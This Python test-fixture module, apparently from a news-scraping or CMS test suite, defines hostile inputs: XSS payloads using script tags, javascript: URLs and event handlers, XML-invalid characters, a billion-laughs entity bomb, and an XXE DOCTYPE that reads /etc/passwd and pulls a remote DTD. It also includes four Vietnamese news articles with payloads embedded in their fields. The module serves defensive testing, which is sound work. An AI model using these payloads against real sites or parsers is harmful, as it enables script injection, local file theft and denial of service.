"""The hostile web's bad input: executable markup, characters XML cannot carry, XML entity
attacks, and the articles typed into a CMS with payloads in their fields (with what a safe
store keeps of them). Data only: where each one is served is the plan's business.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime
from typing import Any
from urllib.parse import urlsplit

from sampleweb.base import VN
from sampleweb.groundtruth import Block, GroundTruthArticle
from sampleweb.render import TEMPLATES

#: Every executable payload carries this text (the tests look for payloads, not for it).
PAYLOAD_MARK = "HOSTILE-PAYLOAD"
#: The host an off-site redirect sends to: another name of the same server, so that a
#: crawl following it would show in the access log (paths under ``/evil/``).
OFFSITE_HOST = "localhost"
EVIL = "/evil/"
#: What the local file a ``file-link`` names carries: never in the store or any output.
LOCAL_SECRET = "DB_PASSWORD=hostile-local-file"

#: The script every executable payload runs.
PAYLOAD_JS = f"alert('{PAYLOAD_MARK}')"
_DATA_HTML = "data:text/html;base64,PHNjcmlwdD5hbGVydCgnSE9TVElMRS1QQVlMT0FEJyk8L3NjcmlwdD4="
_DATA_SVG = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
#: Raw markup an editor (or an attacker) got into an article body.
PAYLOAD_HTML = (
    f"<script>{PAYLOAD_JS}</script>"
    f'<script src="http://{OFFSITE_HOST}/evil/x.js"></script>'
    f'<iframe src="javascript:{PAYLOAD_JS}" width="0" height="0"></iframe>'
    f'<img src="{_DATA_SVG}" onerror="{PAYLOAD_JS}" alt="">'
    f'<svg onload="{PAYLOAD_JS}"><circle r="1"/></svg>'
    f'<object data="{_DATA_HTML}"></object><embed src="javascript:{PAYLOAD_JS}">'
    f'<style>p{{background:url("javascript:{PAYLOAD_JS}")}}</style>'
    f'<math><maction actiontype="statusline" xlink:href="javascript:{PAYLOAD_JS}">x</maction></math>'
    f'<form action="javascript:{PAYLOAD_JS}"><button formaction="javascript:{PAYLOAD_JS}">Gửi</button></form>'
)
#: Payload text an editor pasted into a paragraph: it shows as text (escaped in the page).
PAYLOAD_TEXT = f"<script>{PAYLOAD_JS}</script>"

#: Characters XML 1.0 cannot carry, as raw characters and as references.
XML_INVALID = ("\x01", "\x0b", "\x1f", "\ufffe", "&#1;", "&#x0B;", "&#xFFFF;")


@dataclass(frozen=True)
class PayloadArticle:
    """An article typed into a CMS with payloads in its fields, and what must be kept."""

    article: GroundTruthArticle

    @property
    def expected_title(self) -> str:
        """The title as a safe store keeps it: the page escapes the markup typed into
        it, so it is text, kept whole (and escaped by every output)."""
        return " ".join(self.article.title.split())

    @property
    def expected_lead(self) -> str:
        return " ".join(self.article.lead.split())

    @property
    def expected_body(self) -> tuple[Block, ...]:
        """The body as served: the escaped payload text is a paragraph before the
        second one (the raw payload markup beside it leaves nothing)."""
        body = self.article.body
        return (*body[:1], Block("p", PAYLOAD_TEXT), *body[1:])

    def to_json(self) -> dict[str, Any]:
        a = self.article
        return {
            "key": a.key,
            "site": a.site,
            "path": TEMPLATES[a.site].article_path(a),
            "title_as_typed": a.title,
            "expected_title": self.expected_title,
            "lead_as_typed": a.lead,
            "expected_lead": self.expected_lead,
        }


# -- payload articles: our own short texts, typed into the CMS with markup -------------------


def payload_articles() -> list[PayloadArticle]:
    """Four articles, one per newspaper, with payloads typed into their title and lead
    (the CMS escapes them: the page shows them as text) and into their body (raw)."""

    def art(
        site: str, n: int, section: str, category: str, title: str, lead: str,
        paragraphs: Sequence[str], byline: str, when: datetime,
    ) -> GroundTruthArticle:  # fmt: skip
        return GroundTruthArticle(
            site=site,
            key=f"{site}-hostile-{n}",
            id=990000 + n,
            slug=f"bai-viet-thu-nghiem-{n}",
            sections=(section,),
            category=category,
            categories=(category,),
            title=title,
            lead=lead,
            source_tag=None,
            body=tuple(Block("p", p) for p in paragraphs),
            byline=byline,
            authors=(byline,),
            published=when,
        )

    script = f'<script>alert("{PAYLOAD_MARK}")</script>'
    return [
        PayloadArticle(
            art("baden", 1, "kinh-te", "kinh-te",
                f"Lịch tạm ngừng cấp điện tuần tới ở thành phố Tây Ninh {script}",
                "Điện lực Tây Ninh thông báo lịch tạm ngừng cấp điện để bảo trì lưới điện trung thế.",
                ("Theo thông báo, các khu vực phường 1, phường 3 và xã Bình Minh sẽ tạm ngừng cấp "
                 "điện từ 7 giờ đến 16 giờ ngày thứ Ba để thay dây dẫn và sứ cách điện.",
                 "Ngành điện đề nghị các cơ sở sản xuất chủ động sắp xếp kế hoạch, người dân "
                 "không đến gần khu vực đang thi công.",
                 "Trường hợp hoàn thành sớm, điện sẽ được cấp lại mà không báo trước."),
                "Hoàng Yến", datetime(2026, 11, 18, 9, 30, tzinfo=VN)),
        ),
        PayloadArticle(
            art("tamdao", 2, "kinh-te", "kinh-te",
                f"<img src=x onerror=alert('{PAYLOAD_MARK}')>Mở lớp tin học miễn phí cho người cao tuổi",
                f'Hội Người cao tuổi phường Liên Bảo mở lớp dùng điện thoại thông minh <a href="javascript:{PAYLOAD_JS}">đăng ký</a>.',
                ("Lớp học kéo dài bốn tuần, mỗi tuần hai buổi vào sáng thứ Bảy và Chủ nhật tại "
                 "nhà văn hóa tổ dân phố số 5.",
                 "Học viên được hướng dẫn cài ứng dụng định danh điện tử, thanh toán hóa đơn "
                 "điện nước và nhận biết tin nhắn lừa đảo.",
                 "Ban tổ chức cho mượn máy với những người chưa có điện thoại phù hợp."),
                "Quang Huy", datetime(2026, 11, 17, 14, 10, tzinfo=VN)),
        ),
        PayloadArticle(
            art("songcau", 3, "kinh-te", "kinh-te",
                f'Phiên chợ nông sản an toàn cuối tuần <iframe src="javascript:{PAYLOAD_JS}"></iframe>',
                f'Hơn sáu mươi gian hàng chè, rau và gạo đặc sản <svg onload="{PAYLOAD_JS}"></svg>tham gia phiên chợ.',
                ("Phiên chợ diễn ra tại quảng trường trung tâm từ chiều thứ Sáu đến hết Chủ nhật, "
                 "mỗi gian hàng đều có tem truy xuất nguồn gốc.",
                 "Các hợp tác xã chè Tân Cương giới thiệu cách pha và bảo quản chè búp khô cho "
                 "người tiêu dùng.",
                 "Ban quản lý chợ bố trí điểm gửi xe miễn phí và khu vui chơi cho trẻ em."),
                "Thu Trang", datetime(2026, 11, 16, 16, 45, tzinfo=VN)),
        ),
        PayloadArticle(
            art("caonguyen", 4, "xa-hoi", "xa-hoi",
                f'<a href="{_DATA_HTML}">Khuyến cáo</a> phòng bệnh sốt xuất huyết trong mùa mưa',
                f"Trung tâm Kiểm soát bệnh tật tỉnh đề nghị người dân diệt lăng quăng mỗi tuần <b onmouseover=\"{PAYLOAD_JS}\">một lần</b>.",
                ("Từ đầu mùa mưa, số ca mắc sốt xuất huyết tại các huyện phía nam tăng so với "
                 "cùng kỳ, chủ yếu ở trẻ em và thanh niên.",
                 "Ngành y tế khuyến cáo đậy kín dụng cụ chứa nước, thả cá diệt lăng quăng và "
                 "ngủ màn kể cả ban ngày.",
                 "Khi sốt cao liên tục, người bệnh cần đến cơ sở y tế, không tự ý truyền dịch tại nhà."),
                "Hồng Nhung", datetime(2026, 11, 15, 8, 20, tzinfo=VN)),
        ),
    ]  # fmt: skip


# -- XML attacks --------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<!DOCTYPE {root} [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
)


def xxe_doctype(root: str, origin: str) -> str:
    """A DOCTYPE whose external entities read a local file and fetch from the off-site host."""
    return (
        f"<!DOCTYPE {root} [\n"
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
        f'<!ENTITY xxe2 SYSTEM "http://{OFFSITE_HOST}:{urlsplit(origin).port}{EVIL}xxe.txt">\n'
        f'<!ENTITY % remote SYSTEM "http://{OFFSITE_HOST}:{urlsplit(origin).port}{EVIL}xxe.dtd">\n'
        "%remote;\n]>\n"
    )
